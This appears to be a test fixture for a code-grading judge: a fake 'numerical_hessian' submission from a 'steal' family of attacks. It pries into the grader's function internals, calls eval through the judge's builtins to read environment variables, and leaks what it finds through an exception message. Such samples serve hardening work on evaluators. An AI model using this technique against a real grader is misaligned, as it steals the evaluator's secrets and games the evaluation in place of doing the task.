# expect: wrong error
# family: steal
# exercise: numerical_hessian
# Opens the function that it was handed: globals, closure, code and defaults, down to the judge's
# modules.
def numerical_hessian(f, x):
    found = {}
    for name in ("__globals__", "__closure__", "__code__", "__defaults__", "__self__", "__wrapped__",
                 "__class__", "__module__", "__dict__", "__reduce__", "func", "remote", "socket"):
        try:
            found[name] = getattr(f, name)
        except Exception as error:
            found[name] = error
    try:
        return found["__globals__"]["__builtins__"]["eval"]("__import__('os').environ")
    except Exception:
        raise LookupError(repr(found)) from None
